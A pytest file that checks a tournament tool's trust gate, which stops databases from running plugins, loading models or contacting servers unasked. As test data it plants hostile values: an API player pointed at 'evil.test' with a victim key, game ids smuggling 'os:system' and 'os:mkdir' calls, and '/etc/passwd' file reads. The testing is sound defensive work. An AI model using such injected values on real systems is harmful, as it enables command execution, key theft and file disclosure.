"""A database is data: nothing that it names is run, loaded or asked unless the user has allowed it."""

import logging
import os
import shutil
import sqlite3
from contextlib import closing
from pathlib import Path

import msgspec
import pytest

from arena.cli import main
from games import InputError, plugins, register, tasks
from league import TournamentConfig, run_tournament
from league.runs.stored_players import resolve
from league.store import Store
from league.trust import Capability, TrustGate, of_game, of_model, of_player, readable
from league.trust.capabilities import unknown_part
from league.trust.memory import FILE, state_dir
from roles.registry import ROLES
from tests import golden
from tests.league.specs import spec, stored

METHOD = golden.text(__file__, "trust_method.py.txt")
BESIDE = """
def touch(folder):
    (folder / "ran").write_text("yes")
"""
FILE_TEXT = golden.text(__file__, "trust_file_text.toml")


@pytest.fixture(autouse=True)
def _somebody_new(tmp_path, monkeypatch):
    """A user who has allowed nothing yet, in a folder of his own."""
    monkeypatch.setenv("ARENA_STATE", str(tmp_path / "state"))
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    yield
    for handler in list(logging.getLogger().handlers):
        handler.flush()


@pytest.fixture
def played():
    """A run that this user started from a file of his own, whose standings are not cached."""
    Path("mine.py").write_text(METHOD)
    Path("beside.py").write_text(BESIDE)
    Path("t.toml").write_text(FILE_TEXT)
    assert main(["tournament", "t.toml", "--board", "off"]) == 0
    with closing(sqlite3.connect("cup.db")) as connection, connection:
        connection.execute("DELETE FROM standings_cache")
    plugins.forget()
    Path("ran").unlink()
    return Path("cup.db").resolve()


def test_ones_own_run_finds_its_plugin_again(played, capsys):
    os.chdir("/")
    for verb in (["board"], ["rebuild"], ["verify"]):
        assert main([*verb, "--db", str(played)]) == 0, capsys.readouterr().err
    assert (played.parent / "ran").exists()


GAME = golden.text(__file__, "trust_game.py.txt")


def test_ones_own_game_is_known_by_however_its_id_was_written(capsys):
    """The file's id lacks the version and has another order than the stored one."""
    Path("coin.py").write_text(GAME)
    text = FILE_TEXT.replace("mine.py", "coin.py").replace('[ratings]\nmethod = "mine"', "rounds = 1")
    Path("t.toml").write_text(text.replace("openspiel/kuhn_poker", "coin(low=1, rounds=4)"))
    assert main(["tournament", "t.toml", "--board", "off"]) == 0, capsys.readouterr().err
    assert main(["add", "--game", "coin(low=2, rounds=5)", "--run", "cup", "--db", "cup.db"]) == 0
    plugins.forget()
    assert main(["verify", "--db", "cup.db"]) == 0, capsys.readouterr().err
    allowed = (state_dir() / FILE).read_text()
    assert "game coin-v0(rounds=4,low=1)" in allowed
    assert "game coin-v0(rounds=5,low=2)" in allowed


SOURCE = golden.text(__file__, "trust_source.py.txt")


def test_ones_own_task_source_is_found_again(capsys):
    """Its name stands inside the id of a game that is ours."""
    Path("doubles.py").write_text(SOURCE)
    text = FILE_TEXT.replace("mine.py", "doubles.py").replace('[ratings]\nmethod = "mine"', "rounds = 1")
    Path("t.toml").write_text(text.replace("openspiel/kuhn_poker", "solve(tasks=doubles)"))
    assert main(["tournament", "t.toml", "--board", "off"]) == 0, capsys.readouterr().err
    plugins.forget()
    capsys.readouterr()
    assert main(["verify", "--db", "cup.db"]) == 0
    assert "replayed: 2\n" in capsys.readouterr().out
    plugins.forget()
    shutil.rmtree(state_dir())
    assert main(["replay", "0", "--db", "cup.db"]) == 2
    assert "whose task source doubles is not known here; its plugin file" in capsys.readouterr().err


ROLE = golden.text(__file__, "trust_role.py.txt")
TRAINING = golden.text(__file__, "trust_training.toml")


def test_the_snapshots_of_ones_own_training_find_its_role_again(capsys):
    """Its name stands inside the id of a player that is ours."""
    Path("krole.py").write_text(ROLE)
    Path("learn.toml").write_text(TRAINING)
    assert main(["train", "learn.toml", "--board", "off"]) == 0, capsys.readouterr().err
    asked = ["eval", "learn", "--game", "openspiel/kuhn_poker", "--matches", "2", "--db", "learn.db"]
    plugins.forget()
    assert main(asked) == 0, capsys.readouterr().err
    plugins.forget()
    shutil.rmtree(state_dir())
    capsys.readouterr()
    assert main(asked) == 2
    assert "whose role krole is not known here; its plugin file" in capsys.readouterr().err
    assert main([*asked, "--plugin", "krole.py"]) == 2
    assert "would make the role krole(charge=1" in capsys.readouterr().err
    assert main([*asked, "--plugin", "krole.py", "--trust-db"]) == 0, capsys.readouterr().err


def test_parts_of_ids_that_are_not_known_here():
    assert unknown_part("psj(tasks='clock(minutes=3)')") == "task source clock"
    for id in ("psj", "solve(tasks=arithmetic(digits=2))", "redteam(referee=seat)", "prefer(referee=pairs)", "nope"):
        assert unknown_part(id) == "", id


@pytest.mark.parametrize("verb", [["board"], ["rebuild"], ["verify"], ["watch"]])
def test_code_of_a_database_from_elsewhere_is_named_and_not_run(played, verb, capsys):
    shutil.rmtree(state_dir())
    assert main([*verb, "--db", str(played)]) == 2
    message = capsys.readouterr().err.splitlines()[-1]
    code = played.parent / "mine.py"
    assert f"its plugin file {code} is code that you have not run for this database" in message
    assert f"look at it, then add --plugin {code}, or type --trust-db" in message
    assert not (played.parent / "ran").exists()


def test_a_plugin_is_asked_for_again_once_it_or_its_neighbour_changed(played, capsys, monkeypatch):
    for name in ("mine.py", "beside.py"):
        text = Path(name).read_text()
        Path(name).write_text(text + "# changed\n")
        assert main(["board", "--db", str(played)]) == 2
        assert "mine.py has changed since you ran it for this database" in capsys.readouterr().err
        assert not Path("ran").exists()
        Path(name).write_text(text)
    assert main(["board", "--db", str(played)]) == 0


@pytest.mark.parametrize("how", [["--trust-db"], ["--plugin", "mine.py"]])
def test_he_is_asked_once(played, how, capsys, monkeypatch):
    shutil.rmtree(state_dir())
    assert main(["board", "--db", str(played), *how]) == 0
    plugins.forget()
    assert main(["board", "--db", str(played)]) == 0, capsys.readouterr().err


def test_what_is_trusted_is_listed(played, caplog):
    shutil.rmtree(state_dir())
    assert main(["board", "--db", str(played), "--trust-db"]) == 0
    assert f"runs the code in {played.parent / 'mine.py'}" in caplog.text


def test_another_database_that_names_the_same_file_is_not_trusted(played):
    with closing(sqlite3.connect(played)) as connection, connection:
        connection.execute("UPDATE meta SET value = 'another' WHERE key = 'id'")
    assert main(["board", "--db", str(played)]) == 2
    assert not Path("ran").exists()


def seated(db, player, **config):
    """Somebody else's database in which `champ` is a player."""
    with Store.open(str(db)) as store:
        store.start_run("theirs", stored(players=[{"name": "champ", "player": player}], **config))
    return db


@pytest.mark.parametrize(
    ("player", "message"), golden.rows(__file__, "trust_a_player_of_a_database_is_not_made_unasked")
)
def test_a_player_of_a_database_is_not_made_unasked(tmp_path, player, message, capsys):
    db = seated(tmp_path / "theirs.db", player)
    for words in (
        ["play", "openspiel/kuhn_poker", "champ", "random"],
        ["eval", "champ", "--game", "openspiel/kuhn_poker"],
        ["eval", "random", "--game", "openspiel/kuhn_poker", "--against", "champ"],
    ):
        assert main([*words, "--db", str(db)]) == 2
        line = capsys.readouterr().err.strip()
        assert "\n" not in line
        assert message in line
        assert line.endswith("if you want that, type --trust-db")


def test_a_file_that_names_a_player_of_a_database_is_asked_too(tmp_path):
    db = seated(tmp_path / "theirs.db", "openai(model=m, base_url=http://evil.test/v1, key=VICTIM_SECRET)")
    text = FILE_TEXT.replace("cup.db", str(db)).replace('player = "random"', 'player = "champ"', 1)
    Path("t.toml").write_text(text.replace('plugins = ["mine.py"]', "").replace('method = "mine"', ""))
    assert main(["tournament", "t.toml"]) == 2
    # nor when the run is said to have been started with that name
    with closing(sqlite3.connect(db)) as connection, connection:
        connection.execute("UPDATE runs SET name = 'cup'")
        config = msgspec.json.encode(
            stored(named={"one": "champ"}, players=[{"name": "one", "player": "llm(model=evil/weights)"}])
        ).decode()
        connection.execute("UPDATE runs SET config = ?", (config,))
    assert main(["tournament", "t.toml"]) == 2


def test_harmless_players_need_no_trust(tmp_path):
    db = seated(tmp_path / "theirs.db", "by-role(a=mcts(simulations=2), b=llm(model=smollm2-135m), c=llm)")
    assert resolve("champ", str(db)).id.startswith("by-role(")


def test_what_is_allowed_is_allowed_as_it_was_listed(tmp_path, caplog):
    db = seated(tmp_path / "theirs.db", "openai(model=m, base_url=http://one.test/v1)")
    resolve("champ", str(db), trust=True)
    assert "the player 'champ' of sqlite:///" in caplog.text
    assert "may ask the model m at http://one.test/v1" in caplog.text
    resolve("champ", str(db))
    with closing(sqlite3.connect(db)) as connection, connection:
        connection.execute("UPDATE runs SET config = replace(config, 'one.test', 'two.test')")
    with pytest.raises(InputError, match=r"two\.test"):
        resolve("champ", str(db))


def model_in(folder, **adapter):
    folder.mkdir(parents=True)
    (folder / "config.json").write_text("{}")
    if adapter:
        (folder / "adapter_config.json").write_text(msgspec.json.encode(adapter).decode())
    return folder


def test_a_model_beside_the_database_is_the_runs_own(tmp_path):
    db = tmp_path / "runs" / "x.db"
    inside = model_in(tmp_path / "runs" / "theirs" / "snapshots" / "theirs@3")
    folder = str(tmp_path / "runs" / "theirs")
    assert resolve("champ", str(seated(db, f'llm(model="{inside}")', folder=folder))).name == "champ"


@pytest.mark.parametrize("folder", ["", "/", "..", "runs/theirs/snapshots", "elsewhere"])
def test_a_model_elsewhere_is_not(tmp_path, folder):
    model = model_in(tmp_path / "elsewhere" / "model")
    db = seated(tmp_path / "runs" / "x.db", f'llm(model="{model}")', folder=str(tmp_path / folder) if folder else "")
    link = tmp_path / "runs" / "theirs" / "link"
    link.parent.mkdir()
    link.symlink_to(model)
    with pytest.raises(InputError, match="load the model in the folder"):
        resolve("champ", str(db))
    db.unlink()
    seated(db, f'llm(model="{link}")')
    with pytest.raises(InputError, match="load the model in the folder"):
        resolve("champ", str(db))


def test_the_base_of_an_adapter_is_a_model_too(tmp_path):
    folder = model_in(tmp_path / "a", base_model_name_or_path="evil/base")
    assert [t.key for t in of_model(str(folder))] == [f"model {folder}", "model evil/base"]


def test_the_base_of_an_adapter_in_a_whole_model_counts_where_the_engine_loads_it(tmp_path):
    folder = model_in(tmp_path / "snapshot")
    model_in(folder / "adapter", base_model_name_or_path="evil/base")
    ids = {engine: f"llm(model='{folder}',engine={engine})" for engine in ("vllm", "auto", "transformers")}
    keys = {engine: [thing.key for thing in of_player(id)] for engine, id in ids.items()}
    both = [f"model {folder}", "model evil/base"]
    assert keys == {"vllm": both, "auto": both, "transformers": both[:1]}


def test_games_that_import_or_read_files_are_asked_for(tmp_path):
    assert of_game("openspiel/kuhn_poker(players=3)") == []
    assert [t.effect for t in of_game("pettingzoo/os:system(command=id)")] == [
        "import the Python module os and make the game pettingzoo/os:system(command=id)"
    ]
    assert [t.effect for t in of_game("openenv/http://host:80(x=1)")] == ["play on the server http://host:80"]
    assert [t.effect for t in of_game("verifiers/os(x=1)")] == [
        "import the environment package of the game verifiers/os(x=1) and run its code"
    ]
    assert of_game("psj(tasks=arithmetic(digits=1))") == []
    assert of_game("openspiel/repeated_game(stage_game=nfg_game(filename=/etc/passwd),num_repetitions=2)")
    assert of_game("openspiel/colored_trails(boards_file=/etc/passwd)")


def test_parameters_reach_no_plugins_game_or_task_source_unasked():
    register("mine-v0")(lambda word="": None)
    tasks.register("mine")(lambda word="": None)
    assert of_game("mine-v0") == []
    assert of_game("solve-v1(tasks=mine)") == []
    assert of_game("solve-v1(tasks=arithmetic(digits=2))") == []
    assert [t.key for t in of_game("mine-v0(word=x)")] == ["game mine-v0(word=x)"]
    assert [t.key for t in of_game("solve-v1(tasks=mine(word=x))")] == ["tasks mine(word=x)"]


def test_what_a_plugins_role_is_told_by_a_database_is_asked_for(monkeypatch):
    monkeypatch.setattr(ROLES, "is_plugin", lambda id: id.startswith("mine"))
    asked = of_player("llm(roles='judge=proposer(distance=0.4); solver=mine(url=http://theirs)')")
    assert [t.effect for t in asked] == ["make the role mine(url=http://theirs) of a plugin"]
    assert of_player("by-role(judge=llm(roles='judge=mine(x=1)'))")
    assert of_player("llm(roles='judge=mine')") == []
    assert of_player("llm(roles='judge=proposer(distance=0.4)')") == []


def test_a_stored_match_makes_no_game_that_imports(tmp_path, capsys):
    config = TournamentConfig.model_validate(
        {
            "name": "cup",
            "db": f"sqlite:///{tmp_path}/x.db",
            "games": ["openspiel/kuhn_poker"],
            "players": [{"name": "a", "player": "random"}, {"name": "b", "player": "random"}],
        }
    )
    run_tournament(config, board="off")
    with closing(sqlite3.connect(tmp_path / "x.db")) as connection, connection:
        import zlib

        evil = f"pettingzoo/os:mkdir(path={tmp_path}/hacked)"
        for match, data in connection.execute('SELECT "match", data FROM episodes').fetchall():
            changed = zlib.compress(zlib.decompress(data).replace(b"openspiel/kuhn_poker", evil.encode()))
            connection.execute('UPDATE episodes SET data = ? WHERE "match" = ?', (changed, match))
        connection.execute("UPDATE runs SET config = replace(config, 'openspiel/kuhn_poker', ?)", (evil,))
        for table in ("plan", "results"):
            connection.execute(f"UPDATE {table} SET game = ?", (evil,))
    for verb in (["replay", "0"], ["verify"]):
        assert main([*verb, "--db", f"{tmp_path}/x.db"]) == 2
        assert "would import the Python module os" in capsys.readouterr().err
    with pytest.raises(InputError):
        run_tournament(config, board="off")  # the file's game is another one
    assert not (tmp_path / "hacked").exists()


def test_the_curves_of_a_training_are_read_below_the_database_only(tmp_path):
    with Store.open(f"{tmp_path}/runs/x.db") as store:

        def is_readable(folder):
            return readable(store, spec(folder=str(folder))).folder != ""

        assert is_readable(tmp_path / "runs" / "t")
        assert not is_readable(Path("/proc/self"))
        assert not is_readable(tmp_path / "runs")
        TrustGate(store).remember(of_player("random"), [tmp_path / "far"])
        assert is_readable(tmp_path / "far")


def test_models_may_be_loaded_from_the_folder_of_a_training_in_the_store(tmp_path):
    folder, far = tmp_path / "runs" / "t", tmp_path / "far"
    with Store.open(f"{tmp_path}/runs/x.db") as store:
        store.start_run("t", stored(kind="training", folder=str(folder)))
        store.start_run("u", stored(kind="training", folder=str(far)))
        gate = TrustGate(store)
        gate.allow("it", [Capability("model m", "load m", folder / "m")], spec())
        for elsewhere in (far, tmp_path / "runs" / "other"):
            with pytest.raises(InputError):
                gate.allow("it", [Capability("model n", "load n", elsewhere / "n")], spec())


def test_a_folder_that_cannot_be_written_costs_a_warning(tmp_path, monkeypatch, caplog):
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("ARENA_STATE", str(tmp_path / "file" / "state"))
    with Store.open(f"{tmp_path}/x.db") as store:
        TrustGate(store).remember(of_player("openai(model=m)"))
    assert "is not remembered: cannot write" in caplog.text


def test_a_damaged_memory_allows_nothing_and_hides_nothing(tmp_path):
    with Store.open(f"{tmp_path}/x.db") as store:
        TrustGate(store).remember(of_player("openai(model=m)"))
        with (state_dir() / FILE).open("ab") as file:
            file.write(b'{"store": 1}\n[]\n\xff\n{"sto')
        TrustGate(store).allow("it", of_player("openai(model=m)"), spec())
        with pytest.raises(InputError):
            TrustGate(store).allow("it", of_player("openai(model=n)"), spec())
